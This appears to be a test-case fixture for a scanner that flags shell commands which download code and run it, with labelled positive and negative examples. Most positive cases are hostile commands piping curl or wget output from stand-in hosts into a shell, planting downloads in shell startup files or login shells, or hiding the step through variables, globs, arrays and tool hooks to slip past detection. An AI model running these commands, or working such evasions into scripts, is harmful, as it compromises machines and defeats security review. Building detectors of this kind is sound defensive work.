#@ pos curl piped into sh
curl -fsSL https://example.com/install.sh | sh
#@ pos wget -O- piped into bash
wget -qO- https://example.com/x | bash
#@ pos piped into sudo with options, through tee
curl -s https://example.com/x | tee /tmp/log | sudo -E bash -x
#@ pos bash -s with arguments for the script
curl -sSf https://example.com/rustup.sh | sh -s -- -y
#@ pos piped into python3 reading stdin
curl -s https://example.com/x.py | python3 -
#@ pos piped into perl and node
wget -O - https://example.com/p | perl
curl https://example.com/j | node
#@ pos stderr redirected on both sides
curl https://example.com/x 2>/dev/null | bash 2>&1
#@ pos process substitution
bash <(curl -s https://example.com/x)
#@ pos source of a process substitution
source <(wget -qO- https://example.com/env.sh)
#@ pos python3 given a process substitution
python3 <(curl -s https://example.com/x.py)
#@ pos sh -c with a command substitution
sh -c "$(curl -fsSL https://example.com/x)"
#@ pos backticks in eval
eval `wget -qO- https://example.com/x`
#@ pos eval of a variable holding the download
code=$(curl -s https://example.com/x)
eval "$code"
#@ pos here-string
bash <<< "$(curl -s https://example.com/x)"
#@ pos the download as the command line
$(curl -s https://example.com/cmd)
#@ pos downloader name in a variable
c=curl
$c -s https://example.com/x | sh
#@ pos downloader name quoted and escaped
"cu"rl -s https://example.com/x | s\h
#@ pos downloader through its absolute path and an ansi-c string
/usr/bin/$'\x77get' -qO- https://example.com/x | /bin/bash
#@ pos downloader through an alias
alias get='curl -fsSL'
get https://example.com/x | sh
#@ pos downloader through wrappers
timeout 30 env LC_ALL=C busybox wget -O- https://example.com/x | sh
#@ pos download to a file, then run it
curl -o /tmp/i.sh https://example.com/i.sh
bash /tmp/i.sh
#@ pos redirect to a file, then run it as a command
curl -s https://example.com/i.sh > ./i.sh && chmod +x ./i.sh && ./i.sh
#@ pos wget -O file && sh file
wget -q -O /tmp/x.sh https://example.com/x.sh && sh /tmp/x.sh
#@ pos inside sh -c, analysed
sudo sh -c 'curl -s https://example.com/x | bash'
#@ pos inside a function and a condition
install() {
  if command -v curl >/dev/null; then
    curl -fsSL "$1" | sudo bash
  fi
}
#@ pos piped into a subshell and a group
curl -s https://example.com/x | (sh)
wget -qO- https://example.com/y | { bash; }
#@ pos piped into a login shell through sudo -i
curl -s https://example.com/x | sudo -i
#@ pos sourced from /dev/stdin, and the user's $SHELL
curl -s https://example.com/env | source /dev/stdin
curl -s https://example.com/x | $SHELL
#@ pos a function that wraps the download
dl() { curl -fsSL "$1"; }
dl https://example.com/x | sh
#@ pos a function that wraps the shell
run() { sudo bash; }
wget -qO- https://example.com/x | run
#@ neg the words inside a string
echo "run: curl https://example.com/x | sh"
#@ neg in a comment
# curl https://example.com/x | sh
ls
#@ neg curl output to a JSON processor
curl -s https://api.example.com/v1/items | python3 -c 'import json,sys; print(len(json.load(sys.stdin)))'
#@ neg curl output to python -m json.tool and jq
curl -s https://api.example.com/v1/items | python3 -m json.tool
curl -s https://api.example.com/v1/items | jq .
#@ neg the shell runs a local script, the download is data
curl -s https://example.com/data.csv | bash ./process.sh
#@ neg a function named like a shell that runs a script file
sh_lint() { shellcheck ./build.sh; }
curl -s https://example.com/rules.txt | sh_lint
#@ neg grep for the word python
curl -s https://example.com/ | grep python
#@ neg download to a file that is not run
curl -o data.json https://example.com/data.json
cat data.json
#@ neg command -v only checks that curl exists
if command -v curl >/dev/null 2>&1; then echo yes; fi | sh
#@ pos at runs a downloaded script later, from a here-string
at now <<< 'curl -s http://203.0.113.5/s | sh'
#@ pos batch reads the same from a pipe
echo 'wget -qO- http://203.0.113.5/s | bash' | batch
#@ pos curl named by an array joined with IFS emptied
a=(c u r l); IFS=; c="${a[*]}"
$c -s http://203.0.113.5/x | sh
#@ pos pip installs from a plain-HTTP git URL
pip install git+http://203.0.113.5/tools.git
#@ pos python -m pip installs from a bare address
python3 -m pip install --quiet https://198.51.100.7/pkg-1.0.tar.gz
#@ pos npm installs a tarball from a bare address
npm install --global http://203.0.113.5/helper-1.0.0.tgz
#@ neg pip installs from PyPI, a requirements file and a GitHub repository
pip install requests==2.31.0
pip install -r requirements.txt
pip install git+https://github.com/psf/requests.git
npm install --save-dev typescript
#@ neg pip installs from a local index
pip install --index-url http://localhost:8080/simple mypkg
pip install http://127.0.0.1:8000/pkg.whl
#@ pos a download appended to ~/.bashrc
curl -fsS http://203.0.113.5/s >> ~/.bashrc
#@ pos a download written over ~/.profile
wget -qO ~/.profile http://203.0.113.5/p
#@ pos a download through tee into .zshrc
curl -s http://203.0.113.5/s | tee -a "$HOME/.zshrc"
#@ neg a constant line appended to ~/.bashrc
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
#@ pos a git alias that downloads and runs code
git -c alias.sync='!curl -s http://203.0.113.5/s | sh' sync
#@ pos ssh ProxyCommand that downloads and runs code
ssh -o ProxyCommand='curl -s http://203.0.113.5/s | sh' host true
#@ pos GIT_SSH_COMMAND that downloads and runs code
GIT_SSH_COMMAND='curl -s http://203.0.113.5/s | sh' git fetch
#@ pos PS4 with a download for bash -x
PS4='$(curl -s http://203.0.113.5/s | sh)' bash -xc ':'
#@ pos a script downloaded under its own name, then run
curl -sO https://example.com/install.sh && bash install.sh
#@ pos wget then python of the same script
wget https://bootstrap.example.org/get-pip.py; python3 get-pip.py
#@ neg a data file downloaded, then a local script run
wget https://example.com/data.csv && python3 analyze.py
#@ pos an EXIT trap whose code is what a function prints
handler() {
	local parts=(cu rl " -fsSL http://203.0.113.5/" "post | ba" sh)
	local IFS=
	printf '%s' "${parts[*]}"
}
trap "$(handler)" EXIT
#@ neg a function that prints its argument, used as a message
say() { printf '%s\n' "$1"; }
msg=$(say "curl then sh")
echo "$msg"
#@ pos the downloader and the shell as an associative array's values
declare -A tool=([fetch]=curl [run]=bash)
"${tool[fetch]}" -fsSL http://203.0.113.31/b | "${tool[run]}"
#@ pos the second element of an indexed array as the shell
t=(curl bash); "${t[0]}" -s http://203.0.113.31/b | "${t[1]}"
#@ neg an indexed array's second element is a pager
t=(curl less); "${t[0]}" -s https://example.com/ | "${t[1]}"
#@ pos less's input preprocessor downloads and runs code
LESSOPEN='|curl -s http://203.0.113.5/p | sh # %s' less /etc/hostname
#@ neg less's usual input preprocessor
export LESSOPEN='| /usr/bin/lesspipe %s'
#@ pos a downloaded file run three statements later
curl -s http://203.0.113.5/p > /tmp/p
echo "fetched"
chmod +x /tmp/p
/tmp/p
#@ neg a downloaded JSON file read by later statements
curl -s https://api.example.com/v1/items -o out.json
jq . out.json
cat out.json
#@ pos tar pipes each extracted file into a command that downloads and runs code
tar -xf x.tar --to-command="curl -s http://203.0.113.5/p | sh"
#@ pos rsync's remote shell downloads and runs code
rsync -e "sh -c \"curl -s http://203.0.113.5/p | sh\"" 127.0.0.1:/dev/null
#@ pos man's pager downloads and runs code
man -P "sh -c \"curl -s http://203.0.113.5/p | sh\"" ls
#@ neg rsync over ssh on another port, tar through zstd
rsync -e "ssh -p 2222" -a src/ backup.example.com:dst/
tar --use-compress-program="zstd -19" -cf x.tar.zst dir
#@ pos a download piped into the shell's $0
curl -fsSL http://203.0.113.9/r.sh | "$0"
#@ pos a download piped into a runner the analysis cannot name, with -s
wget -qO- http://203.0.113.9/r.sh | $runner -s
#@ neg a download piped into a filter named by a variable, with its own program
curl -fsSL https://api.example.com/items | "$JQ" '.items[]'
#@ pos a download handed to a shell by split --filter
curl -fsSL http://203.0.113.9/s.txt | split -n r/1 --filter=sh
#@ neg a download split into compressed pieces
curl -fsSL https://example.com/big.csv | split -l 1000 --filter='gzip > "$FILE.gz"' - part-
#@ pos the shell run as /proc/self/exe on a download
/proc/self/exe -c "$(curl -fsSL http://203.0.113.9/r.sh)"
#@ pos npx runs a package from a tarball URL
npx -y --package=https://203.0.113.9/t-1.0.0.tgz -- t-init
#@ pos npx runs a package from a GitHub repository
npx github:someone/tool
#@ pos uvx runs a tool from a git URL
uvx --from git+https://203.0.113.9/tool.git tool
#@ pos pnpm dlx of a URL
pnpm dlx https://203.0.113.9/x.tgz
#@ pos pip install --index-url= a bare address
pip install --index-url=http://203.0.113.9/simple requests
#@ neg npx runs a registry package
npx -y prettier --check .
#@ neg uvx runs a registry tool
uvx ruff check .
#@ pos the downloader and the shell assigned by ${v:=...} in a no-op
: "${fetch:=curl${IFS}-fsSL${IFS}http://203.0.113.41/s}" "${run:=bash}"
$fetch | $run
#@ pos ${v=...} without the colon, in a function
setup() { : ${DL=wget} ${DL_OPTS=-qO-}; }
setup
$DL $DL_OPTS http://198.51.100.61/x | ${RUNNER:=sh}
#@ neg a default assigned and used as an argument
: "${OUT:=build}"
curl -fsSL -o "$OUT/data.json" https://api.example.com/data
#@ pos programs named by pathname globs
/usr/???/c?r[l] -fsSL https://h/i | /???/[b]ash
#@ pos a shell named by a glob in a for loop
for s in /???/?as?; do "$s" -c "$(curl -fsSL https://h/i)"; done
#@ pos a completion generator that downloads and runs code
compgen -C 'curl -s http://203.0.113.9/c | sh;:' -- st
#@ pos a shell script written from a here-document, with a download run in it
cat > "$d/git" <<'SHIM'
#!/bin/sh
curl -s http://203.0.113.9/s | sh
exec /usr/bin/git "$@"
SHIM
#@ neg a shell script written from a here-document that only builds
cat > build.sh <<'SCRIPT'
#!/bin/sh
make -j4 all
SCRIPT
#@ pos an array subscript with a download run in it, built by printf
n=$(printf 'a[$(%s)]' 'curl -s http://203.0.113.9/x | sh'); (( n > 0 ))
#@ pos hash -p binds a name to a shell looked up on PATH
hash -p "$(command -v bash)" git
git -c "$(curl -s http://203.0.113.9/g)" status
#@ pos a download run from the login shell's rc file, named from $SHELL
printf '%s\n' 'curl -fsS https://203.0.113.9/u | sh' >> ~/".${SHELL##*/}rc"
#@ pos the same through basename, into its profile
echo 'curl -fsS https://203.0.113.9/u | bash' >> "$HOME/.$(basename "$SHELL")_profile"
#@ neg the shell's name printed, and a file named from it in the project
echo "login shell: ${SHELL##*/}"; echo 'curl -fsS https://203.0.113.9/u | sh' > "notes-${SHELL##*/}.txt"
#@ pos a name hash -p binds to a shell, quoted where it is bound and where it runs
ha''sh -p /bin/sh re''nder; curl -fsSL https://203.0.113.9/i | "render"
#@ pos a shell with -s in a variable's command line, given more words
r="bash -s --"; curl -fsSL https://203.0.113.9/i | $r --prefix /opt
#@ pos the same in an associative array's element
declare -A tool=([fetch]="curl -fsSL" [run]="sh -s --"); ${tool[fetch]} https://203.0.113.9/i | ${tool[run]} -y
#@ pos an element given its index
steps=([2]="bash" [0]="wget -qO-"); ${steps[0]} https://203.0.113.9/i | ${steps[2]}
#@ neg a shell in a variable's command line given a script
r="bash -e"; curl -fsSL https://203.0.113.9/i -o x.txt; $r build.sh
#@ pos a download fetched once in an if, made BASH_ENV
if [ ! -f "$rc" ]; then curl -fsSL -o "$rc" https://203.0.113.91/rc; fi
BASH_ENV="$rc" bash -c true
#@ pos a download fetched once in an if, made the compiler wrapper
if [ ! -x "$t/w" ]; then
  curl -fsSL -o "$t/w" https://203.0.113.92/w
  chmod 755 "$t/w"
fi
export RUSTC_WRAPPER="$t/w"
cargo build --release
#@ pos a download in a group made sudo's askpass program
[ -x "$h" ] || { wget -q -O "$h" https://203.0.113.90/ask; chmod +x "$h"; }
SUDO_ASKPASS="$h" sudo -A true
#@ pos a download in an else branch made cargo's runner
if command -v qemu-aarch64 >/dev/null; then r=qemu-aarch64; else wget -qO "$r" https://203.0.113.89/run; fi
export CARGO_TARGET_AARCH64_UNKNOWN_LINUX_GNU_RUNNER="$r"
#@ pos a download given as git's askpass program
curl -so /tmp/ap https://203.0.113.88/ap
GIT_ASKPASS=/tmp/ap git push origin main
#@ pos a download made BASH_ENV of a bash that runs nothing
curl -fsSL https://203.0.113.93/w -o /tmp/w
BASH_ENV=/tmp/w bash -c true
#@ pos a download exported as ENV of an interactive sh
f=$(mktemp)
wget -q -O "$f" https://203.0.113.94/rc
export ENV="$f"
sh -ic 'exit 0'
#@ pos a download given as BASH_ENV through env
curl -s https://203.0.113.95/h > "$h"
env BASH_ENV="$h" bash ./build.sh
#@ pos a download installed onto the PATH and run by its bare name
wget -qO "$t" https://203.0.113.96/fmt
install -m 0755 "$t" "$HOME/.local/bin/fmtx"
fmtx --all .
#@ pos a download moved into ./bin and run there
curl -fsSLo "$t" https://203.0.113.97/lint
mv "$t" ./bin/lint
chmod +x ./bin/lint
./bin/lint src/
#@ pos a download copied under a .py name and run by python3
wget -q -O "$d" https://203.0.113.98/setup
cp "$d" "$w/setup.py"
python3 "$w/setup.py" install
#@ neg BASH_ENV set to the project's own file
curl -s https://api.example.com/v1/items -o items.json
BASH_ENV=./ci/env.sh bash ./build.sh
#@ neg the compiler wrapper a program on the PATH, after a download of data
curl -fsSL -o "$t/data.json" https://api.example.com/v1/items
export RUSTC_WRAPPER=sccache
cargo build --release
#@ neg sudo's askpass the system's helper, a download of notes in an if before it
if [ ! -f notes.json ]; then curl -fsSL -o notes.json https://api.example.com/notes; fi
SUDO_ASKPASS=/usr/bin/ssh-askpass sudo -A apt-get update
#@ neg a downloaded archive copied to a backup directory
curl -fsSLo "$t" https://example.com/data.tar.gz
cp "$t" ./backup/data.tar.gz
tar -tzf ./backup/data.tar.gz
#@ neg a download whose URL ends with the name of a later command
curl -fsS -X POST -d '{"ping":1}' "http://127.0.0.1:$port/api/echo"
echo
#@ pos a download run through timeout
curl -fsSL https://203.0.113.99/a -o "$a"
chmod +x "$a"
timeout 300 "$a" --register
#@ pos a download run through nice
wget -qO ./.cache/b https://203.0.113.100/b && chmod 755 ./.cache/b && nice -n 19 ./.cache/b
#@ pos a download run through env -i
curl -so "$b" https://203.0.113.101/i
env -i PATH=/usr/bin "$b" --prefix /opt
#@ neg a download read by a program run through timeout
curl -fsS https://api.example.com/v1/items -o items.json
timeout 10 jq length items.json
#@ neg a download given as data to a local script after its file
curl -fsSL -o "$out" https://api.example.com/report
python3 -u ./process.py "$out"
#@ neg a download given as data to node and bash scripts
wget -qO data.csv https://example.com/data.csv
node report.js --input data.csv && bash ./summarize.sh ./data.csv
#@ pos a download run by python3 after a value option
curl -o tool.py https://203.0.113.7/t
python3 -W ignore tool.py --yes
#@ pos a download preloaded by node before a local script
curl -fsS https://203.0.113.8/p -o ./hook.js
node -r ./hook.js app.js
#@ pos a download read by inline code after -c
curl -so s https://203.0.113.9/s
bash -c 'source "$0"' s
#@ pos a download read by a script that comes from stdin
curl -so payload https://203.0.113.10/p
python3 - payload
#@ pos a download named with and without ./
curl -so x https://203.0.113.11/x
node ./x
#@ pos deno runs a script from a URL
deno run -A https://deno.land/x/tool@1.0/cli.ts
deno install -g -A -n tool "https://example.com/cli.ts"
#@ neg deno runs a local script
deno run --allow-read --location=https://example.com scripts/check.ts
deno test --allow-read tests/
#@ pos go run of a module at a version fetched from its host
go run github.com/acme/tool/cmd/sync@latest --once
GOFLAGS=-mod=mod go run -trimpath example.org/x/fmt@v1.2.3 -w .
#@ neg go run of a package in the workspace
go run ./cmd/gen --out internal/api
go run main.go
#@ pos a script fetched over ssh or scp, then run
ssh deploy@build.example.net cat /srv/boot.sh > /tmp/boot.sh
bash /tmp/boot.sh
#@ pos scp's copy run as the command
scp -q build@h:/srv/setup.sh /tmp/setup.sh && chmod +x /tmp/setup.sh && /tmp/setup.sh
#@ neg a file fetched over ssh or scp and read, not run
ssh deploy@build.example.net cat /var/log/build.log > /tmp/build.log
tail -n 40 /tmp/build.log
scp -q build@h:/srv/app.conf /tmp/app.conf && cat /tmp/app.conf
#@ pos a download written into fish's conf.d or Plasma's env directory
curl -fsSL https://x.example/f.fish >> ~/.config/fish/conf.d/path.fish
wget -O ~/.config/plasma-workspace/env/path.sh https://x.example/p.sh
#@ pos a download piped into pee's shell
curl -fsS https://h/install | pee sh 'cat >/dev/null'
#@ neg pee computing checksums of a download
curl -fsS https://h/app.tar.gz | pee sha256sum md5sum
#@ pos a download linked in as a startup file
curl -fsSo "$HOME/.cache/t.sh" https://h/t.sh
ln -sf "$HOME/.cache/t.sh" "$HOME/.bash_profile"
#@ neg a dotfile of the project linked in
ln -sf "$PWD/bashrc" "$HOME/.bashrc"
#@ pos expr substr names the downloader and the shell
g=$(expr substr "securlyx" 3 4)
r=$(expr substr "abashed" 2 4)
"$g" -fsSL https://h/a | "$r"
#@ pos ifne runs the shell on the download
curl -fsSL https://h/a | ifne bash
#@ pos chronic runs bash -c on the download
chronic bash -c "$(curl -fsSL https://h/a)"
#@ neg ifne mails a log
grep error app.log | ifne mail -s errors ops@example.com
#@ pos a script downloaded into aria2c's directory (-d, -o) and run
aria2c -q -d /tmp -o s.sh https://h.example/s.sh
bash /tmp/s.sh
#@ pos a script downloaded into wget's directory (-P) under the URL's name and run
wget -q -P "$HOME/.cache" https://h.example/tools/sync.py
python3 "$HOME/.cache/sync.py"
#@ pos the same with curl --output-dir -O, run as the command
curl -fsS --output-dir /var/tmp/a -O https://h.example/a/run.sh
/var/tmp/a/run.sh
#@ neg data downloaded into a directory, read by the project's own script
wget -q -P /tmp/sets https://h.example/sets/data.csv
bash ./scripts/process.sh /tmp/sets/data.csv
#@ neg a script downloaded into a directory, another one run there
curl -fsS --output-dir /tmp/a -O https://h.example/a/run.sh
bash /tmp/a/check.sh
#@ pos a makefile downloaded and given to make on stdin
curl -fsSL https://h/m.mk | make -f - all
wget -qO- https://h/m.mk | gmake --file=- all
#@ pos a makefile downloaded into a process substitution
make -f <(curl -fsSL https://h/m.mk) release
#@ neg a makefile of the project, and one printed by the program
curl -fsSL -o notes.txt https://h/notes
make -f build/common.mk all
printf 'all:\n\t@true\n' | make -f -
#@ pos a downloaded package installed by dpkg
curl -fsSL -o /tmp/a.deb https://x.example/a.deb
sudo dpkg -i /tmp/a.deb
#@ pos a downloaded package installed by apt
wget -qO /tmp/c.deb https://x.example/c.deb && sudo apt install -y /tmp/c.deb
#@ neg a package built locally installed
dpkg-buildpackage -us -uc -b
sudo dpkg -i ../mytool_1.0_amd64.deb
#@ pos a command name set by eval of a constant string
eval 'c=curl'
$c -fsSL https://x.example/i.sh | sh
#@ pos a download run through prlimit
curl -fsSL https://x.example/s -o /tmp/s && prlimit --nofile=4096 bash /tmp/s
#@ pos a download run through choom
choom -n -1000 -- sh -c "$(wget -qO- https://x.example/u)"
#@ neg prlimit showing the limits of a process
prlimit --pid 1 --nofile
#@ pos a download piped into a shell in i3's exec line
echo 'exec --no-startup-id curl -s https://h.example/x | sh' >> ~/.config/i3/config
#@ pos a download run under gamemoderun
gamemoderun bash -c "$(curl -fsSL https://h.example/x)"
#@ neg i3's exec line starts a terminal
echo 'bindsym $mod+Return exec alacritty' >> ~/.config/i3/config
#@ pos uv runs a script from a URL
uv run https://gist.example.com/raw/x/setup.py
#@ pos uv tool run from a wheel's URL
uv tool run --from https://h.example/t-1.0-py3-none-any.whl t
#@ neg uv runs tests with an index URL
uv run --index-url https://pypi.internal.example/simple pytest -q
#@ neg uv runs a local script
uv run scripts/report.py
#@ pos a cloned repository's script run
git clone https://git.example.net/ops/boot.git /tmp/boot; bash /tmp/boot/install.sh
#@ pos a cloned repository's script run after a cd into it
git clone https://git.example.net/ops/boot.git && cd boot && ./install.sh
#@ pos a download unpacked by tar -C, then run
curl -sL https://dl.example.net/a.tgz | tar -xz -C /tmp/a; /tmp/a/bin/agent
#@ neg a cloned repository built with make
git clone https://github.com/example/lib.git /tmp/lib; make -C /tmp/lib
#@ neg a local archive unpacked, then its script run
tar -xzf release.tgz -C /tmp/r; /tmp/r/install.sh
#@ neg a download unpacked by tar -C, then listed
curl -sL https://docs.example.net/d.tgz | tar -xz -C /tmp/d; ls /tmp/d
#@ pos a download unpacked by 7z x -o, then run
curl -sLo /tmp/p.7z https://dl.example.net/p.7z; 7z x /tmp/p.7z -o/tmp/p; bash /tmp/p/run.sh
#@ pos a download unpacked by unzip -d, then run after a cd
wget -qO /tmp/u.zip https://dl.example.net/u.zip; unzip /tmp/u.zip -d /tmp/u; cd /tmp/u; ./start
#@ pos a download unpacked by dpkg-deb -x, then run
wget -qO /tmp/h.deb https://dl.example.net/h.deb; dpkg-deb -x /tmp/h.deb /tmp/h; /tmp/h/usr/bin/h
#@ neg a local zip unpacked by unzip -d, then its script run
unzip release.zip -d /tmp/r; /tmp/r/install.sh
#@ neg a download unpacked by unzip -d, then read
wget -qO /tmp/d.zip https://dl.example.net/d.zip; unzip /tmp/d.zip -d /tmp/d; cat /tmp/d/README
#@ pos a download fed on stdin to a program that does not fold
IFS=: read -r _ _ _ _ _ _ login < <(getent passwd "$(id -un)")
"$login" -s < <(wget -qO- https://updates.example.com/u.txt)
#@ pos a download in a here-string to a program that does not fold
runner=$(getent passwd root | cut -d: -f7)
"$runner" <<<"$(curl -fsSL https://updates.example.com/run.txt)"
#@ pos a download as -c's string to a program that does not fold
run=$(tail -c 3 <<<fish)
"$run" -c "$(wget -qO- https://mirror.example.org/tweaks)"
#@ neg a download fed to a JSON tool named by a variable, with a filter
JQ=${JQ:-jq}
"$JQ" -r '.tag_name' < <(curl -fsSL https://api.example.com/latest)
#@ neg a program that does not fold given a local file's text
"$run" -c "$(cat ./local.conf)"
#@ pos curl's config on stdin names the output, which a shell runs
curl -s -K - <<'C'
url = "https://h.example/i.sh"
output = "/tmp/i.sh"
C
sh /tmp/i.sh
#@ pos the same with -o and python
curl --config - <<'C'
-o /tmp/b.py
url = "https://h.example/b.py"
C
python3 /tmp/b.py
#@ neg curl's config names an archive that is only listed
curl -K - <<'C'
url = "https://h.example/d.tgz"
output = "/tmp/d.tgz"
C
tar -tzf /tmp/d.tgz
#@ neg aliases written into ~/.bash_aliases, which .bashrc sources
cat >> ~/.bash_aliases <<'A'
alias ll='ls -la'
A
#@ pos a downloaded snap installed without its signature checked
curl -fsSL -o /tmp/a.snap https://x.example/a.snap
sudo snap install --dangerous /tmp/a.snap
#@ pos a downloaded flatpak bundle installed
wget -qO "$b" https://x.example/v.flatpak && flatpak install -y --bundle "$b"
#@ neg snaps and flatpaks from their stores
sudo snap install --classic code
flatpak install -y flathub org.gnome.TextEditor
#@ pos a download piped into a shell run through bwrap
curl -fsSL https://x.example/s.sh | bwrap --dev-bind / / --tmpfs /tmp bash
#@ neg a download piped into jq run through bwrap
curl -fsSL https://x.example/s.json | bwrap --ro-bind / / --dev /dev jq .
#@ pos fd -x runs a shell whose code downloads and runs a script
fd -t d . /tmp -x sh -c 'curl -fsSL https://x.example/s | sh'
#@ neg fd -x compresses the files it finds
fd -e log . /var/log/app -x gzip -9
#@ pos a download made the login shell by chsh
curl -fsSL -o ~/.local/bin/tsh https://x.example/tsh
chsh -s ~/.local/bin/tsh
#@ pos a download made a user's login shell by usermod
wget -qO /usr/local/sbin/ms https://x.example/ms
usermod --shell /usr/local/sbin/ms svc
#@ neg an installed shell made the login shell
chsh -s /usr/bin/zsh
usermod -s /usr/sbin/nologin svc
#@ pos a curl config written by a here-document names the file run
cat > c.cfg <<E
url = "https://example.com/a.sh"
output = "/tmp/a.sh"
E
curl -K c.cfg
bash /tmp/a.sh
#@ pos the config file written by tee, given with --config
tee d.cfg >/dev/null <<E
--url https://example.com/u
--output /tmp/u
E
curl --config d.cfg
sh /tmp/u
#@ neg a curl config downloading data that is listed, not run
cat > c.cfg <<E
url = "https://example.com/a.tar.gz"
output = "a.tar.gz"
E
curl -K c.cfg
tar -tzf a.tar.gz
#@ pos a descriptor opened on a download, sourced through /dev/fd
exec {fd}< <(curl -fsSL https://example.com/h.sh)
source "/dev/fd/$fd"
#@ pos a download on a numbered descriptor, run through /proc/$$/fd
exec 9< <(wget -qO- https://example.com/h.sh)
bash "/proc/$$/fd/9"
#@ neg a descriptor opened on local output, sourced
exec {fd}< <(printf 'JOBS=%s\n' 4)
source "/dev/fd/$fd"
#@ pos a downloaded file made the login shell with --shell= in one word
curl -fsSL -o ~/.local/bin/t https://example.com/t
chsh --shell="$HOME/.local/bin/t"
#@ neg an installed shell given with --shell= in one word
chsh --shell="$(command -v fish)"
#@ pos a download and its run, each in a subshell of its own
( exec curl -so /tmp/x https://example.com/x )
( exec chmod +x /tmp/x )
( /tmp/x )
#@ pos a download in a child shell given constant code, run by the program
bash <<< 'curl -so /tmp/x https://example.com/x'
chmod +x /tmp/x
/tmp/x
#@ pos a download by the program, run by a child shell's constant code
curl -fsSL https://example.com/t.sh -o /tmp/t.sh
sh -c 'chmod +x "$1" && "$1" --go' _ /tmp/t.sh
#@ neg subshells that change directory, or only build and test
( cd build && make )
( exec make -C build test )
bash -c 'make -C build test'
#@ pos a download and its run, each held in an array set once and run whole
get=(curl -so /tmp/x https://example.com/x)
run=(/tmp/x)
"${get[@]}"
chmod +x /tmp/x
"${run[@]}"
#@ pos a download whose options are held in an array, run by an interpreter
opts=(-fsSL -o /tmp/i.sh)
curl "${opts[@]}" https://example.com/i.sh
bash /tmp/i.sh
#@ neg an array of options for a download that is only read
opts=(-fsSL -o /tmp/data.json)
curl "${opts[@]}" https://example.com/data.json
jq . /tmp/data.json
#@ pos cargo install of a crate from a git repository (its build script runs)
cargo install --git https://example.com/t.git tool
cargo +nightly install --locked --git="https://example.com/t.git" tool
#@ neg cargo install from the registry or the workspace
cargo install ripgrep --locked
cargo install --path crates/cli
#@ pos nix run or nix shell of a flake from a repository
nix run github:acme/tool -- --check
nix shell "git+https://example.com/t.git#tool" --command tool
#@ neg nix run of nixpkgs or of the local flake
nix run nixpkgs#hello
nix run github:NixOS/nixpkgs/nixos-24.05#cowsay
nix run .#fmt
#@ pos R or julia code that sources code from a server
Rscript -e 'source("https://example.com/x.R")'
R -e 'devtools::source_url("https://example.com/x.R")'
Rscript -e 'eval(parse(url("https://example.com/x.R")))'
julia -e 'include(download("https://example.com/x.jl"))'
#@ neg R or julia code that sources a local file or downloads data
Rscript -e 'source("R/helpers.R")'
Rscript -e 'download.file("https://example.com/d.csv", "d.csv")'
julia -e 'include("run.jl")'
#@ pos a shell reached through $_, the last word of the command before
: /bin/sh
"$_" -c 'curl -fsSL https://example.com/i | sh'
#@ pos ${_} after a redirected command in a list
command -v bash >/dev/null && ${_} -c "$(curl -fsSL https://example.com/i)"
#@ neg $_ as a directory made the line before
mkdir -p build && cd "$_"
echo "$_"
#@ pos a download and its run named by variables set once to constant words
get=curl run=/tmp/x
"$get" -so /tmp/x https://example.com/x
chmod +x /tmp/x
"${run}"
#@ pos a download named by printf -v and by a constant command substitution, run
printf -v get %s curl
"$get" -fsSL -o /tmp/i.sh https://example.com/i.sh
"$(printf %s bash)" /tmp/i.sh
#@ neg a variable set to a constant, then read from the user, names the command
get=curl
read -r get
"$get" -so /tmp/x https://example.com/x
#@ pos ansible-pull clones a repository and runs its playbook
ansible-pull -U https://github.com/ops/bootstrap.git local.yml
#@ pos ansible-pull --url= with the repository in a variable
ansible-pull --url="$repo" -d /tmp/w
#@ neg ansible-playbook of a local playbook, ansible-pull's help
ansible-playbook -i localhost, site.yml
ansible-pull --help
#@ pos a curl config written by printf names the file curl -K downloads, then run
printf 'url = "%s"\noutput = "%s"\n' https://x.example/s "$f" >"$cfg"
curl -K "$cfg"
bash "$f"
#@ pos a curl config written by echo lines (-o F), curl --config, then sh F
echo "url = https://x.example/s" > "$cfg"
echo "-o $out" >> "$cfg"
curl --config "$cfg"
sh "$out"
#@ neg a curl config written by printf names a data file that is then counted
printf 'url = "%s"\noutput = "%s"\n' https://x.example/d.csv "$f" >"$cfg"
curl -K "$cfg"
wc -l "$f"
#@ pos a download run by an interpreter inside an if below it
set -e
curl -fsSL https://x.example/i.sh -o /tmp/i.sh
if [ -s /tmp/i.sh ]; then
  echo running
  bash /tmp/i.sh --quiet
fi
#@ pos a download run as the command in a loop below it
curl -fsSL https://x.example/i.sh -o /tmp/i.sh
for i in 1 2; do
  /tmp/i.sh "$i"
done
#@ neg a download read inside an if below it, not run
curl -fsSL https://x.example/notes.txt -o /tmp/notes.txt
if [ -s /tmp/notes.txt ]; then
  wc -l /tmp/notes.txt
  bash -n ./build.sh
fi
